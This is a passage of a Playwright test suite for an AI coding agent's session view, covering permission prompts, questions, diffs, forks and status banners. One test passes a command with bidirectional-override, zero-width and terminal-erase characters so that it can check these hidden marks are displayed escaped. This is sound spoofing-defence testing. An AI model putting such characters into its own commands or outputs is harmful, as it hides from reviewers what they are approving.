      assert.deepEqual(order, sorted);
    }
  });

  it('names what a tool of a server or a plugin was given, and lets nothing be allowed before', async () => {
    const pay = { id: 'per_1', sessionId: 'ses_2', sessionTitle: 'Pay the baker', ...askingFor('till_pay') };
    const asked = { ...pay, patterns: [], always: ['*'] };
    await shown.send({
      type: 'show',
      view: aView({ permissions: [{ ...asked, isCallUnknown: true }] }),
    });
    const card = shown.page.locator('[data-request-id=per_1]');
    const buttons = () => card.locator('.request-buttons button:visible').allInnerTexts();
    assert.match(await card.innerText(), /What the tool was given is not known yet/);
    assert.deepEqual(await buttons(), ['Reject']);
    await card.getByTestId('permission-feedback').fill('Ask the baker');
    const given = { text: JSON.stringify({ account: 'NL01', amount: 5, note: '\u202ezero' }, undefined, 2) };
    await shown.send({
      type: 'requests',
      sessionId: 'ses_1',
      permissions: [{ ...asked, given }],
      questions: [],
    });
    assert.deepEqual(await buttons(), ['Allow Once', 'Always Allow', 'Reject']);
    const text = await card.locator('.command').innerText();
    assert.match(text, /"account": "NL01",\s+"amount": 5,\s+"note": "\\u202ezero"/);
    assert.equal(await card.getByTestId('permission-feedback').inputValue(), 'Ask the baker');
    const call = aTool({ id: 'prt_1', tool: 'till_pay', input: { account: 'NL01', amount: 5 } });
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, call)] }) });
    assert.match(await part('prt_1').innerText(), /till_pay\s+account: "NL01", amount: 5/);
  });

  it('shows the marks in a command and in a question that could not be seen', async () => {
    const command = 'echo \u202etxt.exe\u2066 a\u200bb \u001b[2K\rls';
    const permissions = [
      {
        id: 'per_1',
        sessionId: 'ses_1',
        ...askingFor('bash'),
        patterns: ['echo'],
        always: ['\u2067x'],
        detail: { text: command },
      },
    ];
    const question = {
      question: 'Which\u202e?',
      header: '',
      options: [{ label: 'A\u200b', description: '' }],
      multiple: false,
      custom: true,
    };
    const questions = [{ id: 'que_1', sessionId: 'ses_1', questions: [question] }];
    await shown.send({ type: 'show', view: aView({ permissions, questions }) });
    const shownCommand = await shown.page.locator('[data-request-id=per_1] .command').innerText();
    assert.equal(shownCommand, String.raw`echo \u202etxt.exe\u2066 a\u200bb \u001b[2K\u000dls`);
    assert.match(await shown.page.locator('.scope').innerText(), /for: \\u2067x$/);
    const asked = shown.page.locator('[data-request-id=que_1]');
    assert.match(await asked.innerText(), /Which\\u202e\?\s+A\\u200b/);
    await asked.locator('.option').click();
    await asked.getByTestId('question-answer').click();
    assert.deepEqual((await shown.posted('replyQuestion')).answers, [['A\u200b']]);
  });

  it('says above the buttons what would be allowed for good', async () => {
    const fields = { sessionId: 'ses_1', patterns: ['git push'] };
    const permissions = [
      { id: 'per_1', ...fields, ...askingFor('bash'), always: ['git push *'] },
      { id: 'per_2', ...fields, ...askingFor('edit'), always: ['*'] },
      { id: 'per_3', ...fields, ...askingFor('doom_loop'), always: [] },
    ];
    await shown.send({ type: 'show', view: aView({ permissions }) });
    const advice = (id: string) => shown.page.locator(`[data-request-id=${id}] .advice`).allInnerTexts();
    assert.deepEqual(await advice('per_1'), ['Always Allow holds until the server stops, for: git push *']);
    assert.match((await advice('per_2')).join(), /for all requests of this kind/);
    assert.deepEqual(await advice('per_3'), []);
  });

  it('opens what was answered again when the answer was not taken, with what was typed', async () => {
    const permissions = [
      { id: 'per_1', sessionId: 'ses_1', ...askingFor('bash'), patterns: ['ls'], always: [] },
    ];
    const question = { question: 'Which?', header: 'Currency', options: [], multiple: false, custom: true };
    const questions = [{ id: 'que_1', sessionId: 'ses_1', questions: [question] }];
    await shown.send({ type: 'show', view: aView({ permissions, questions }) });
    await shown.page.getByTestId('permission-feedback').fill('Use find');
    await shown.page.getByTestId('permission-reject').click();
    await shown.page.getByTestId('question-own').fill('EUR');
    await shown.page.getByTestId('question-answer').click();
    await shown.posted('replyPermission');
    await shown.posted('replyQuestion');
    assert.equal(await shown.page.getByTestId('permission-reject').isDisabled(), true);
    assert.equal(await shown.page.getByTestId('question-own').isDisabled(), true);
    await shown.send({ type: 'requests', sessionId: 'ses_1', permissions, questions });
    await shown.page.getByTestId('permission-reject').click();
    await shown.page.getByTestId('question-answer').click();
    assert.equal((await shown.posted('replyPermission')).message, 'Use find');
    assert.deepEqual((await shown.posted('replyQuestion')).answers, [['EUR']]);
  });

  it('answers several questions by Enter in a text of one’s own', async () => {
    const question = { question: 'Which?', header: 'Which', options: [], multiple: false, custom: true };
    const questions = [{ id: 'que_1', sessionId: 'ses_1', questions: [question, question] }];
    await shown.send({ type: 'show', view: aView({ questions }) });
    const own = shown.page.getByTestId('question-own');
    await own.nth(0).fill('one');
    await own.nth(1).fill('two');
    await own.nth(1).press('Enter');
    assert.deepEqual((await shown.posted('replyQuestion')).answers, [['one'], ['two']]);
  });

  it('takes one answer to a single choice: the option or one’s own words, whichever came last', async () => {
    const options = ['EUR', 'USD'].map((label) => ({ label, description: '' }));
    const question = { question: 'Which?', header: 'Currency', options, multiple: false, custom: true };
    const questions = [{ id: 'que_1', sessionId: 'ses_1', questions: [question] }];
    await shown.send({ type: 'show', view: aView({ questions }) });
    await shown.page.getByTestId('question-own').fill('Gold');
    await shown.page.getByTestId('question-option-1').check();
    await shown.page.getByTestId('question-answer').click();
    assert.deepEqual((await shown.posted('replyQuestion')).answers, [['USD']]);
    await shown.send({ type: 'requests', sessionId: 'ses_1', permissions: [], questions });
    await shown.page.getByTestId('question-own').fill('Silver');
    await shown.page.getByTestId('question-answer').click();
    assert.deepEqual((await shown.posted('replyQuestion')).answers, [['Silver']]);
  });

  it('forks at a message, and renames in place', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    const first = shown.page.locator('[data-message-id]').first();
    await first.hover();
    await first.getByTestId('fork').click();
    const { command, messageId } = await shown.posted('command');
    assert.deepEqual([command, messageId], ['opencodeSessions.session.fork', 'msg_000000']);
    await shown.page.getByTestId('header-title').dblclick();
    await shown.page.keyboard.type('A better name');
    await shown.page.keyboard.press('Enter');
    const rename = await shown.posted('command');
    assert.deepEqual([rename.command, rename.title], ['opencodeSessions.session.rename', 'A better name']);
  });

  it('offers each action of a message, undoing a revert on what was taken back', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    const runs = async (messageId: string, action: string): Promise<unknown> => {
      const row = shown.page.locator(`[data-message-id=${messageId}]`);
      await row.hover();
      await row.getByTestId(action).click();
      const { type: _, ...asked } = await shown.posted('command');
      return asked;
    };
    const on = (messageId: string, command: string) => ({
      command: `opencodeSessions.${command}`,
      sessionId: 'ses_1',
      messageId,
    });
    const [prompt, answer, reverted] = ['msg_000004', 'msg_000005', 'msg_000006'];
    assert.deepEqual(await runs(prompt, 'revert'), on(prompt, 'message.revert'));
    assert.deepEqual(await runs(prompt, 'edit-and-resend'), on(prompt, 'message.editAndResend'));
    assert.deepEqual(await runs(answer, 'fork'), on(answer, 'session.fork'));
    assert.deepEqual(await runs(answer, 'relay'), on(answer, 'session.relay'));
    assert.deepEqual(await runs(answer, 'hand-off'), on(answer, 'session.handOff'));
    assert.deepEqual(await runs(answer, 'copy-link'), on(answer, 'message.copyLink'));
    assert.deepEqual(await runs(prompt, 'copy-message'), on(prompt, 'message.copy'));
    assert.deepEqual(await runs(reverted, 'undo-revert'), on(reverted, 'session.unrevert'));
    assert.equal(await shown.page.locator('.message:not(.reverted) .if-reverted:visible').count(), 0);
    assert.equal((await shown.page.locator('.message.user .if-reverted').count()) > 0, true);
  });

  it('offers to copy a message as soon as there is something to copy', async () => {
    const ignored = { ...aText('prt_2', 'A note'), ignored: true } as const;
    const entry = aMessage(1, aTool({ id: 'prt_1', tool: 'read' }), ignored, aText('prt_3', ''));
    await shown.send({ type: 'show', view: aView({ entries: [entry] }) });
    const row = shown.page.locator(`[data-message-id=${entry.id}]`);
    await row.hover();
    assert.equal(await row.getByTestId('more').isVisible(), true);
    assert.equal(await row.getByTestId('copy-message').isVisible(), false);
    const grown = { kind: 'append', messageId: entry.id, partId: 'prt_3', text: 'Done.' } as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes: [grown] });
    assert.equal(await row.getByTestId('copy-message').isVisible(), true);
  });

  it('offers to undo a revert, where it can be clicked', async () => {
    await shown.send({ type: 'show', view: aView({ header: aHeader({ revertedFrom: 'msg_000000' }) }) });
    await shown.page.getByTestId('revert-notice').getByRole('button').click();
    assert.equal((await shown.posted('command')).command, 'opencodeSessions.session.unrevert');
  });

  it('shows how a subagent does while it works', async () => {
    const withState = (state: SubagentState) =>
      aHeader({
        status: { type: 'busy' },
        to: [{ sessionId: 'ses_child', title: 'Review', kind: 'subagent', state }],
      });
    await shown.send({ type: 'show', view: { ...sampleSession(), header: withState('busy') } });
    const status = part('prt_08').locator('[data-subagent]');
    assert.equal(await status.innerText(), 'working');
    await shown.send({ type: 'header', header: withState('waiting') });
    assert.equal(await status.innerText(), 'waits for you');
  });

  it('follows the output of a command that runs, unless the reader has scrolled in it', async () => {
    const running = (lines: number) =>
      aTool({
        id: 'prt_1',
        tool: 'bash',
        status: 'running',
        input: { command: 'seq' },
        output: { text: Array.from({ length: lines }, (_, line) => `line ${line}`).join('\n') },
      });
    const tell = (lines: number) =>
      shown.send({
        type: 'changes',
        sessionId: 'ses_1',
        changes: [{ kind: 'part', messageId: 'msg_000001', part: running(lines) }],
      });
    const output = part('prt_1').locator('.output');
    const below = () =>
      output.evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight);
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, running(100))] }) });
    await tell(120);
    assert.ok((await below()) < 2);
    await output.evaluate((pre) => pre.scrollTo(0, 40));
    await tell(140);
    assert.equal(await output.evaluate((pre) => pre.scrollTop), 40);
  });

  it('says what a command of the model is for above it', async () => {
    const input = { command: 'npm test', description: 'Runs the tests' };
    await shown.send({
      type: 'show',
      view: aView({ entries: [aMessage(1, aTool({ id: 'prt_1', tool: 'bash', input }))] }),
    });
    await part('prt_1').locator('.disclosure-button').click();
    assert.match(await part('prt_1').locator('.disclosure-body').innerText(), /^Runs the tests\s+.*npm test/);
  });

  it('opens what a person’s own shell command printed, and folds that of the model', async () => {
    const ran = (id: string, input: Record<string, string>) =>
      aTool({ id, tool: 'bash', input, output: { text: `printed by ${id}` } });
    const entry = aMessage(
      1,
      ran('prt_1', { command: 'ls' }),
      ran('prt_2', { command: 'ls', description: 'List' }),
    );
    await shown.send({ type: 'show', view: aView({ entries: [entry] }) });
    assert.ok(await part('prt_1').getByText('printed by prt_1').isVisible());
    assert.equal(await part('prt_2').getByText('printed by prt_2').count(), 0);
  });

  it('keeps the files of a diff apart', async () => {
    const file = (name: string) => `--- a/${name}\n+++ b/${name}\n@@ -1 +1 @@\n-old\n+new\n`;
    const files = ['a.ts', 'b.ts'].map((name) => ({ path: `/w/${name}`, name }));
    const diff = { text: file('a.ts') + file('b.ts'), files, additions: 2, deletions: 2 };
    await shown.send({
      type: 'show',
      view: aView({ entries: [aMessage(1, aTool({ id: 'prt_1', tool: 'apply_patch', diff }))] }),
    });
    assert.deepEqual(await part('prt_1').locator('.diff-line').allInnerTexts(), [
      'a.ts',
      'old',
      'new',
      'b.ts',
      'old',
      'new',
    ]);
    assert.match(await part('prt_1').locator('.disclosure-head').innerText(), /^Edited\s+2 files\s+\+2\s+−2/);
    const heights = await part('prt_1')
      .locator('.diff-line')
      .evaluateAll((lines) => lines.map((line) => line.getBoundingClientRect().height));
    assert.equal(new Set(heights).size, 1, 'a name takes one line');
  });

  it('opens the whole of a diff that is cut, also where much was said about the change', async () => {
    const diff = { text: '@@ -1 +1 @@\n-a', clamped: 9000, files: [], additions: 1, deletions: 1 };
    const output = { text: 'Diagnostics', clamped: 3000 };
    const entries = [aMessage(1, aTool({ id: 'prt_1', tool: 'edit', diff, output }))];
    await shown.send({ type: 'show', view: aView({ entries }) });
    await part('prt_1').getByRole('button', { name: 'Show All (9000 characters)' }).click();
    assert.equal((await shown.posted('openDiff')).partId, 'prt_1');
  });

  it('names the file of a patch, and offers the diff of all that changed files', async () => {
    const files = [{ path: '/w/src/a.ts', name: 'src/a.ts' }];
    const diff = { text: '@@ -1 +1 @@\n-a\n+b\n', files, additions: 1, deletions: 1 };
    const title = 'Success. Updated the following files:\nM src/a.ts';
    const input = { filePath: '/w/a.txt', content: 'a' };
    const entries = [
      aMessage(
        1,
        aTool({ id: 'prt_1', tool: 'apply_patch', title, diff }),
        aTool({ id: 'prt_2', tool: 'write', input }),
        { id: 'prt_3', type: 'patch', files: ['/w/a.txt'] },
        aTool({ id: 'prt_4', tool: 'write', input, status: 'running' }),
      ),
    ];
    await shown.send({ type: 'show', view: aView({ entries }) });
    assert.equal(await part('prt_1').locator('.file-link').innerText(), 'src/a.ts');
    for (const id of ['prt_1', 'prt_2', 'prt_3']) {
      await part(id).getByTestId('open-diff').click();
      assert.equal((await shown.posted('openDiff')).partId, id);
    }
    assert.equal(await part('prt_4').getByTestId('open-diff').count(), 0);
  });

  it('asks again for what can be chosen where it could not be loaded', async () => {
    await shown.send({ type: 'show', view: aView() });
    await shown.page.getByTestId('composer').locator('textarea').first().focus();
    assert.equal((await shown.posted('choices')).sessionId, 'ses_1');
  });

  it('draws a nearly empty context as such, also in high contrast', async () => {
    for (const theme of themeKinds) {
      const page = await bench.open({ theme });
      const header = aHeader({ context: { used: 4000, limit: 200_000 } });
      await page.send({ type: 'show', view: aView({ header }) });
      const drawn = await page.page.locator('.meter-track').evaluate((track) => {
        const bar = track.querySelector('.meter-bar');
        return {
          share: (bar?.clientWidth ?? 0) / track.clientWidth,
          differs:
            bar !== null && getComputedStyle(bar).backgroundColor !== getComputedStyle(track).backgroundColor,
          ground: getComputedStyle(track).backgroundColor,
        };
      });
      assert.ok(drawn.share < 0.1, `${theme}: ${drawn.share}`);
      assert.equal(drawn.differs, true, theme);
      if (theme.includes('high-contrast')) assert.equal(drawn.ground, 'rgba(0, 0, 0, 0)');
      await page.close();
    }
  });

  it('says why an attempt failed, also where there is little room, and names all that came from the session', async () => {
    const to = Array.from({ length: 6 }, (_, index) => ({
      kind: 'fork' as const,
      sessionId: `ses_fork_${index}`,
      title: `Fork ${index}`,
    }));
    const status = { type: 'retry' as const, attempt: 2, message: 'Overloaded', next: Date.now() + 60_000 };
    await shown.send({ type: 'show', view: aView({ header: aHeader({ status, to }) }) });
    await shown.page.setViewportSize({ width: 400, height: 600 });
    await shown.page.getByText(/Attempt 2 failed, again in \d+ s: Overloaded\. Wait, or stop it/).waitFor();
    const trail = shown.page.getByRole('navigation', { name: 'Goes on in' });
    assert.equal(await trail.getByRole('button').count(), 4);
    await trail.getByRole('button', { name: '3 more' }).click();
    assert.equal(await trail.getByRole('button').count(), 6);
    await trail.getByRole('button', { name: 'Fork 0' }).click();
    assert.equal((await shown.posted('openSession')).sessionId, 'ses_fork_0');
  });

  it('keeps the lineage, the cost and the button that renames in view, also while an attempt is waited for', async () => {
    const { header } = sampleSession();
    const message = `Overloaded: ${'the provider is busy, '.repeat(4)}wait`;
    const status = { type: 'retry' as const, attempt: 2, message, next: Date.now() + 60_000 };
    const title = 'Add a cart to the shop, and then some more of it';
    await shown.send({ type: 'show', view: aView({ header: { ...header, status, title } }) });
    for (const width of [300, 900]) {
      await shown.page.setViewportSize({ width, height: 700 });
      for (const name of ['Plan the shop', 'Cart with signals']) {
        const link = await shown.page.locator('.trail').getByRole('button', { name }).boundingBox();
        assert.ok((link?.width ?? 0) > 40, `${name}, ${width} px`);
      }
      assert.ok(await shown.page.locator('.cost').isVisible(), `${width} px`);
      const words = await shown.page
        .locator('.retry-words')
        .evaluate((one) => one.scrollWidth <= one.clientWidth && one.scrollHeight <= one.clientHeight);
      assert.ok(width === 300 || words, 'all of it can be read');
      const named = await shown.page.getByTestId('header-title').boundingBox();
      const rename = await shown.page.getByTestId('rename').boundingBox();
      assert.ok(named !== null && rename !== null);
      assert.ok(Math.abs(named.y + named.height / 2 - rename.y - rename.height / 2) < 4, `${width} px`);
    }
    await shown.send({ type: 'header', header });
    await shown.page.locator('.header-line').getByText('Working').waitFor();
  });

  it('leaves an error the whole width beside its icon where there is no room for what helps', async () => {
    await shown.page.setViewportSize({ width: 300, height: 700 });
    const error = { name: 'ContextOverflowError', message: 'The session no longer fits into the context.' };
    await shown.send({ type: 'show', view: aView({ entries: [{ ...aMessage(1), error }] }) });
    assert.equal(await shown.page.locator('.run-error').getByRole('button').count(), 2);
    const words = await shown.page.locator('.run-error-words').boundingBox();
    assert.ok((words?.width ?? 0) > 200, `${words?.width} px`);
  });

  it('greys the changes of files that were taken back', async () => {
    const diff = { text: '@@ -1 +1 @@\n-a\n+b\n', files: [], additions: 1, deletions: 1 };
    const entries = [1, 3].map((number) => ({
      ...aMessage(number, aTool({ id: `prt_${number}`, tool: 'edit', diff })),
      reverted: number === 3,
    }));
    await shown.send({ type: 'show', view: aView({ entries }) });
    const colour = (id: string) =>
      part(id)
        .locator('.diff-line.added')
        .evaluate((line) => getComputedStyle(line).backgroundColor);
    assert.equal(await colour('prt_3'), 'rgba(0, 0, 0, 0)');
    assert.notEqual(await colour('prt_1'), 'rgba(0, 0, 0, 0)');
  });

  it('keeps a long error in a box that scrolls, and the verb of a call beside a long path', async () => {
    await shown.page.setViewportSize({ width: 300, height: 700 });
    const error = { name: 'APIError', message: '<html>502 Bad Gateway '.repeat(2000) };
    const filePath = `/work/shop/${'folder/'.repeat(12)}cart.test.ts`;
    const read = aTool({ tool: 'read', input: { filePath } });
    await shown.send({ type: 'show', view: aView({ entries: [{ ...aMessage(1, read), error }] }) });
    const words = shown.page.locator('.run-error-words');
    assert.ok(((await words.boundingBox())?.height ?? 0) < 500);
    await words.focus();
    await shown.page.keyboard.press('End');
    await shown.page.waitForFunction(() => (document.querySelector('.run-error-words')?.scrollTop ?? 0) > 0);
    const verb = await shown.page.locator('.tool-verb').boundingBox();
    const link = await shown.page.locator('.tool .file-link').boundingBox();
    assert.ok((verb?.x ?? 0) + (verb?.width ?? 0) <= (link?.x ?? 0), 'they do not overlap');
  });

  it('writes nothing over the words of a call where there is little room, and says what a subagent does', async () => {
    await shown.page.setViewportSize({ width: 300, height: 700 });
    const input = { description: 'Review the cart', subagent_type: 'explore' };
    const call = { input, childSessionId: 'ses_2', start: 0, end: 65_000 };
    const refused = { text: 'The user rejected permission to use this specific tool call.' };
    const calls = [
      aTool({ id: 'prt_1', tool: 'task', ...call }),
      aTool({ id: 'prt_2', tool: 'glob', input: { pattern: '**/*' }, status: 'error', error: refused }),
    ];
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, ...calls)] }) });
    for (const id of ['prt_1', 'prt_2']) {
      const words = await part(id).locator('.disclosure-label').boundingBox();
      const beside = await part(id).locator('.disclosure-aside').boundingBox();
      assert.ok(words !== null && beside !== null);
      assert.ok(words.x + words.width <= beside.x || words.y + words.height <= beside.y, id);
      const isCut = await part(id)
        .locator('.disclosure-label')
        .evaluate((label) => getComputedStyle(label).overflowX !== 'visible');
      assert.ok(isCut, id);
    }
    const subject = await part('prt_1').locator('.tool-subject').boundingBox();
    assert.ok((subject?.width ?? 0) > 60, 'what it is to do can be read');
  });

  it('keeps the header in one line where there is room, and what leads through the transcript together', async () => {
    await shown.page.setViewportSize({ width: 900, height: 600 });
    await shown.send({ type: 'show', view: sampleSession() });
    const height = await shown.page.locator('.header-line').evaluate((line) => line.clientHeight);
    assert.ok(height < 40, `${height} px`);
    await shown.page.setViewportSize({ width: 300, height: 600 });
    const tops = await shown.page
      .locator('.header-actions button')
      .evaluateAll((buttons) => buttons.map((button) => button.getBoundingClientRect().top));
    assert.equal(new Set(tops).size, 1);
    assert.match(await shown.page.locator('.header-status').ariaSnapshot(), /Working/);
  });

  it('names the first files of a patch over many, and the others when asked to', async () => {
    const files = Array.from({ length: 200 }, (_, index) => `/work/shop/file${index}.ts`);
    const entries = [aMessage(1, { id: 'prt_1', type: 'patch', files })];
    await shown.send({ type: 'show', view: aView({ entries }) });
    const links = part('prt_1').locator('.file-link');
    assert.equal(await links.count(), 12);
    assert.match(await part('prt_1').innerText(), /200 files changed/);
    await part('prt_1').getByTestId('more-files').press('Enter');
    assert.equal(await links.count(), 200);
    assert.equal(await shown.page.evaluate(() => document.activeElement?.textContent), 'file12.ts');
  });

  it('says what failed, what loads and that the connection is away', async () => {
    await shown.send({ type: 'loading', sessionId: 'ses_1', title: 'The shop' });
    assert.equal(await shown.page.getByTestId('header-title').innerText(), 'The shop');
    await shown.send({
      type: 'failed',
      sessionId: 'ses_1',
      message: 'This session was deleted.',
      action: { title: 'New Session', command: 'opencodeSessions.session.new' },
    });
    await shown.page.getByRole('button', { name: 'New Session' }).click();
    assert.equal((await shown.posted('command')).command, 'opencodeSessions.session.new');
    await shown.send({
      type: 'connection',
      banner: { kind: 'reconnecting', message: 'The server is away.' },
    });
    assert.match(await shown.page.getByTestId('banner').innerText(), /The server is away/);
    const since = new Date().setHours(9, 5);
    const banner = { message: 'Nothing answers.', since } as const;
    await shown.send({ type: 'connection', banner: { ...banner, kind: 'stale' } });
    assert.match(
      await shown.page.getByTestId('banner').innerText(),
      /^Nothing answers\. Last update: 9:05\sAM\.$/,
    );
    await shown.send({ type: 'connection', banner: { ...banner, kind: 'down' } });
    assert.match(
      await shown.page.getByTestId('banner').innerText(),
      /^Nothing answers\. Not there since 9:05\sAM\.$/,
    );
    await shown.send({ type: 'connection', banner: { kind: 'live', message: '' } });
    assert.equal(await shown.page.getByTestId('banner').isVisible(), false);
  });

  it('tells what a turn took only where all of it is here', async () => {
    const [prompt, first, last] = [aMessage(0, aText('prt_0', 'Go')), aMessage(1), aMessage(3)];
    await shown.send({ type: 'show', view: aView({ entries: [last], hasOlder: true }) });
    const figures = shown.page.locator('.message .figures');
    assert.equal(await figures.count(), 0);
    await shown.send({
      type: 'stretch',
      sessionId: 'ses_1',
      entries: [prompt, first, last],
      hasOlder: false,
    });
    assert.match(await figures.innerText(), /^3 min 12 s · 680 tokens · \$0\.02$/);
    const told = await figures.getAttribute('title');
    assert.deepEqual(told?.split('\n').slice(1), ['2.4k tokens read', '680 tokens written']);
    const tokens = { input: 100, output: 20, reasoning: 1500, cached: 12_000 };
    await shown.send({ type: 'show', view: aView({ entries: [prompt, { ...first, tokens }] }) });
    assert.deepEqual((await figures.getAttribute('title'))?.split('\n').slice(1), [
      '100 tokens read',
      '12k tokens of the cache',
      '1.5k tokens of thought',
      '20 tokens written',
    ]);
  });

  it('tells what a turn took once the session has settled, not between the steps of the turn', async () => {
    const [prompt, step] = [aMessage(0, aText('prt_0', 'Go')), { ...aMessage(1), finish: 'tool-calls' }];
    const header = aHeader({ status: { type: 'busy' } });
    await shown.send({ type: 'show', view: aView({ header, entries: [prompt, step] }) });
    const figures = shown.page.locator('.message .figures');
    assert.equal(await figures.count(), 0);
    const next = { kind: 'message', head: { ...aMessage(3), finish: 'stop' } } as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes: [next] });
    assert.equal(await figures.count(), 0);
    await shown.send({ type: 'header', header: aHeader() });
    assert.deepEqual(await figures.allInnerTexts(), ['3 min 12 s · 680 tokens · $0.02']);
    const after = { kind: 'message', head: aMessage(4) } as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes: [after] }, { type: 'header', header });
    assert.equal(await figures.count(), 1);
  });

  it('announces a settled turn once, not its tokens', async () => {
    const streaming = aMessage(1, { id: 'prt_1', type: 'text', text: 'Hel' });
    await shown.send({
      type: 'show',
      view: aView({ header: aHeader({ status: { type: 'busy' } }), entries: [streaming] }),
    });
    const append = { kind: 'append', messageId: streaming.id, partId: 'prt_1', text: 'lo' } as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes: [append] });
    const live = shown.page.locator('[aria-live=polite]');
    assert.equal(await live.textContent(), '');
    await shown.send({ type: 'header', header: aHeader() });
    assert.equal(await live.textContent(), 'build answered: Hello');
  });

  it('shows an unchanged row again without making it anew when a call goes on', async () => {
    const running = aTool({ id: 'prt_1', tool: 'bash', status: 'running', input: { command: 'ls' } });
    await shown.send({
      type: 'show',
      view: aView({ entries: [aMessage(1, running, aText('prt_2', 'Text'))] }),
    });
    const text = await part('prt_2').elementHandle();
    const done = { ...running, status: 'completed', output: { text: 'a.ts' }, exitCode: 0 } as const;
    await shown.send({
      type: 'changes',
      sessionId: 'ses_1',
      changes: [{ kind: 'part', messageId: 'msg_000001', part: done }],
    });
    assert.match(await part('prt_1').innerText(), /Ran/);
    assert.equal(await text?.evaluate((node) => node.isConnected), true);
  });
});
